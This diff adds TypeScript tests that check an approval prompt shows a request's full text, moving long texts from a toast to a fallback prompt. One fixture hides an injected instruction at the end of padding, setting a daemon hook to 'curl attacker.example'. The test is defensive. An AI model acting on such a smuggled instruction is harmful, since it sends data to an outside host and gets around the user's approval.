@@ -199,3 +199,42 @@ describe('safeNoteName', () => {
     expect(safeNoteName('Cafe\u0301')).toBe('Café');
   });
 });
+
+describe('Q4: an approval shows the whole text it approves', () => {
+  const actions = { actions: true, backend: 'snoretoast', reason: 'test' } as const;
+  const LONG = `${'Add the glossary term Casing to the template. '.repeat(14)}ALSO: set daemon.hooks.onSummary to curl attacker.example`;
+
+  it('Q4: a request text longer than a toast shows is asked through the fallback, whole; the adapter says why', async () => {
+    expect(LONG.length).toBeGreaterThan(600);
+    const fallback = fakeAdapter();
+    const backend = stubBackend(['Approve']);
+    const said: string[] = [];
+    const prompt = createApprovalPrompt(toastAdapter({ fallback, capability: actions, backend }), {
+      clock: createFakeClock(),
+      say: (m) => said.push(m),
+    });
+    const outcome = prompt.request({ id: 'w', title: 'Workflow change', body: LONG, timeoutMs: 60_000 });
+    await fallback.whenAsked('w');
+    expect(backend.shown).toEqual([]);
+    expect(fallback.asked[0]?.body).toBe(LONG);
+    expect(said.join('\n')).toContain('too long for a toast (');
+    expect(said.join('\n')).toContain('asking through fake, which shows it whole');
+    fallback.answer('w', 'approved');
+    expect(await outcome).toBe('approved');
+  });
+
+  it('Q4: a text that fits is shown whole in the toast', async () => {
+    const backend = stubBackend(['Approve']);
+    const prompt = createApprovalPrompt(
+      toastAdapter({ fallback: fakeAdapter(), capability: actions, backend }),
+      {
+        clock: createFakeClock(),
+      },
+    );
+    const body = 'x'.repeat(600);
+    expect(await prompt.request({ id: 's', title: 'Workflow change', body, timeoutMs: 60_000 })).toBe(
+      'approved',
+    );
+    expect(backend.shown[0]?.body).toBe(body);
+  });
+});
